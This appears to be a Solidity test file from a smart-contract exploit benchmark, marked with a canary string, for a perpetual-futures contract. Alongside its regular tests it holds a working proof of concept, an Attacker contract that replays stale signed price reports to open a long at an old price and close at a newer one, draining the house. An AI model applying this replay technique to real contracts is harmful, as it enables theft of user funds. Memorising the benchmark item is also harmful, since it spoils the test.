// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.19;

import "./TidelinePerps.sol";

// assay-canary-98bceaff-f3b3-47ca-b97f-2f63a4dfefc0

interface Vm {
    function warp(uint256 time) external;
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function addr(uint256 key) external returns (address);
    function prank(address sender) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Token is IUsd {
    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

/// A token that answers "false" where others revert.
contract Polite is IUsd {
    function transfer(address, uint256) external pure returns (bool) {
        return false;
    }

    function transferFrom(address, address, uint256) external pure returns (bool) {
        return false;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    bytes32 internal constant ETH = "ETH/USD";
    bytes32 internal constant BTC = "BTC/USD";
    address internal constant STRANGER = address(0x57A);
    uint256 internal constant KEY = 0xBEEF;
    uint256 internal constant START = 1_762_000_000;

    Token internal usd;
    TidelinePerps internal desk;
    Attacker internal thief;
    uint256 internal honest;

    /// Reports that were published with earlier calls, for anyone to read.
    PriceReports.Report internal low;
    PriceReports.Report internal high;

    function setUp() public {
        vm.warp(START);
        usd = new Token();
        desk = new TidelinePerps(usd, vm.addr(KEY));
        desk.list(ETH, true);
        usd.mint(address(this), 400_000e6);
        usd.approve(address(desk), type(uint256).max);
        desk.fund(144_000e6);

        low = _report(3_300e8);
        honest = desk.open(true, 1_000e6, 5, low);
        vm.warp(START + 1 days);
        high = _report(3_900e8);
        desk.close(honest, high);
        desk.fund(144_000e6 - desk.bank());

        thief = new Attacker(desk, usd);
        usd.mint(address(thief), 40_000e6);
    }

    function _report(uint128 price) internal returns (PriceReports.Report memory r) {
        r.market = ETH;
        r.price = price;
        r.from = uint64(block.timestamp - 6);
        r.to = uint64(block.timestamp - 1);
        r.signature = _signed(r);
    }

    function _signed(PriceReports.Report memory r) internal returns (bytes memory) {
        (uint8 v, bytes32 x, bytes32 y) = vm.sign(KEY, desk.reportDigest(r));
        return abi.encodePacked(x, y, v);
    }

    function test_Regular() public {
        uint256 before = usd.balanceOf(address(this));
        vm.warp(START + 2 days);
        PriceReports.Report memory r = _report(4_000e8);
        uint256 id = desk.open(false, 10_000e6, 10, r);
        require(usd.balanceOf(address(this)) == before - 10_100e6, "margin and fee");
        (bool ok,) = address(desk).call(abi.encodeCall(TidelinePerps.close, (id, r)));
        require(!ok, "closed at once");

        vm.warp(START + 2 days + 1 hours);
        r = _report(3_900e8);
        require(desk.close(id, r) == 12_500e6, "short gains");
        require(desk.bank() == 144_000e6 + 100e6 - 2_500e6, "bank");

        r.price = 3_000e8;
        (ok,) = address(desk).call(abi.encodeCall(TidelinePerps.open, (true, 1_000e6, 1, r)));
        require(!ok, "altered report");

        id = desk.open(true, 1_000e6, 50, _report(3_900e8));
        vm.warp(START + 2 days + 2 hours);
        desk.cutOff(id, _report(3_800e8));
        require(desk.setAside() == 0, "nothing set aside");
        desk.defund(desk.bank());
        require(usd.balanceOf(address(desk)) == 0, "books");
    }

    function test_RefusesStrangers() public {
        vm.prank(STRANGER);
        vm.expectRevert(TidelinePerps.NotHouse.selector);
        desk.list(BTC, true);
        vm.prank(STRANGER);
        vm.expectRevert(TidelinePerps.NotHouse.selector);
        desk.defund(1e6);

        uint256 id = desk.open(true, 1_000e6, 5, _report(3_900e8));
        vm.warp(block.timestamp + 1 hours);
        PriceReports.Report memory r = _report(3_900e8);
        vm.prank(STRANGER);
        vm.expectRevert(TidelinePerps.NotTrader.selector);
        desk.close(id, r);
    }

    function test_RefusesNoReporter() public {
        vm.expectRevert("no reporter");
        new TidelinePerps(usd, address(0));
    }

    function test_RefusesWhatTheTokenRefuses() public {
        TidelinePerps other = new TidelinePerps(new Polite(), address(this));
        vm.expectRevert("transfer failed");
        other.fund(0);
        vm.expectRevert("transfer failed");
        other.defund(0);
    }

    function test_RefusesToPayOutWhatIsSetAside() public {
        desk.open(true, 1_000e6, 5, _report(3_900e8));
        uint256 free = desk.bank() - 4_000e6;
        vm.expectRevert(abi.encodeWithSelector(TidelinePerps.HouseIsFull.selector, free));
        desk.defund(free + 1);
    }

    function test_RefusesOrdersOutOfBounds() public {
        PriceReports.Report memory r = _report(3_900e8);
        vm.expectRevert(abi.encodeWithSelector(TidelinePerps.Leverage.selector, 0));
        desk.open(true, 1_000e6, 0, r);
        vm.expectRevert(abi.encodeWithSelector(TidelinePerps.Leverage.selector, 51));
        desk.open(true, 1_000e6, 51, r);
        vm.expectRevert(abi.encodeWithSelector(TidelinePerps.HouseIsFull.selector, 144_000e6));
        desk.open(true, 36_000e6 + 1, 1, r);
        r.market = BTC;
        r.signature = _signed(r);
        vm.expectRevert(abi.encodeWithSelector(TidelinePerps.MarketNotListed.selector, BTC));
        desk.open(true, 1_000e6, 5, r);
    }

    function test_RefusesTheReportOfAnotherMarket() public {
        uint256 id = desk.open(true, 1_000e6, 5, _report(3_900e8));
        vm.warp(block.timestamp + 1 hours);
        PriceReports.Report memory r = _report(3_900e8);
        r.market = BTC;
        r.signature = _signed(r);
        vm.expectRevert(abi.encodeWithSelector(TidelinePerps.MarketNotListed.selector, BTC));
        desk.close(id, r);
    }

    function test_RefusesToCutOffWithinTheMargin() public {
        uint256 id = desk.open(true, 1_000e6, 50, _report(3_900e8));
        uint256 none = desk.open(true, 0, 50, _report(3_900e8));
        vm.warp(block.timestamp + 1 hours);
        PriceReports.Report memory r = _report(3_880e8);
        vm.expectRevert(TidelinePerps.WithinMargin.selector);
        desk.cutOff(id, r);
        vm.expectRevert(TidelinePerps.WithinMargin.selector);
        desk.cutOff(none, r);
    }

    function test_RefusesReportsThatAreNotUsable() public {
        PriceReports.Report memory r = _report(0);
        _refused(r);
        r = _report(3_900e8);
        r.from = r.to;
        _refused(r);
        r = _report(3_900e8);
        r.to = uint64(block.timestamp + 1);
        _refused(r);
        r = _report(3_900e8);
        r.from = r.to - 13;
        _refused(r);

        r = _report(3_900e8);
        r.signature = abi.encodePacked(r.signature, uint8(0));
        vm.expectRevert("signature length");
        desk.open(true, 1_000e6, 5, r);
    }

    function _refused(PriceReports.Report memory r) internal {
        r.signature = _signed(r);
        vm.expectRevert(PriceReports.ReportNotUsable.selector);
        desk.open(true, 1_000e6, 5, r);
    }

    function exploit() public {
        thief.enter(low);
        vm.warp(block.timestamp + 2 minutes);
        thief.leave(high);
    }

    function test_Exploit() public {
        uint256 before = usd.balanceOf(address(thief));
        exploit();
        require(usd.balanceOf(address(thief)) >= before + 140_000e6, "nothing gained");
    }

    function target() public view returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }

    function token() public view returns (address) {
        return address(usd);
    }
}

/// Goes long at yesterday's price and closes at today's, both taken from calls of other people.
contract Attacker {
    TidelinePerps internal desk;
    Token internal usd;
    uint256 internal id;

    constructor(TidelinePerps desk_, Token usd_) {
        desk = desk_;
        usd = usd_;
    }

    function enter(PriceReports.Report calldata report) external {
        usd.approve(address(desk), type(uint256).max);
        id = desk.open(true, 36_000e6, 30, report);
    }

    function leave(PriceReports.Report calldata report) external {
        desk.close(id, report);
    }
}
